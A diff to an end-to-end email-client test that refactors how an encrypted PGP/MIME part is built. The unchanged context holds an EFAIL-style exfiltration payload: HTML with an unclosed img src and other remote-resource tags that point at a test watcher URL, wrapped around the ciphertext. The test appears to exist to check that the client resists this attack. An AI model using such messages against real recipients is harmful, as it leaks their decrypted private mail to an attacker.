@@ -13,6 +13,7 @@ import { armor, enums, unarmor } from 'openpgp';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { fixturePassphrase } from '../../keys-fixtures/index.ts';
 import { describeWithTools } from '../support/tools.ts';
+import { pgpMimeBody, pgpMimeContentType } from '../support/mail-bodies.ts';
 import { e2eTools, eventually, type Client, World } from './harness/index.ts';
 import { downloadPrefs, Gpg, openMessage, openStatus, submitRaw, replyQuoting } from './harness/reading.ts';
 
@@ -204,17 +205,9 @@ describeWithTools(e2eTools([{ command: 'gpg', debianPackage: 'gnupg' }]), 'e2e: 
         '',
         `<html><head><link rel="stylesheet" href="${watcherUrl}/link"><style>body{background:url(${watcherUrl}/style)}</style></head><body>ATTACKER-BEFORE<video poster="${watcherUrl}/poster"></video><img src="${watcherUrl}/img?`,
         '--efail',
-        'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="enc"',
+        `Content-Type: ${pgpMimeContentType}`,
         '',
-        '--enc',
-        'Content-Type: application/pgp-encrypted',
-        '',
-        'Version: 1',
-        '--enc',
-        'Content-Type: application/octet-stream; name="encrypted.asc"',
-        '',
-        ciphertext,
-        '--enc--',
+        pgpMimeBody(ciphertext).trimEnd(),
         '--efail',
         'Content-Type: text/html; charset=utf-8',
         '',
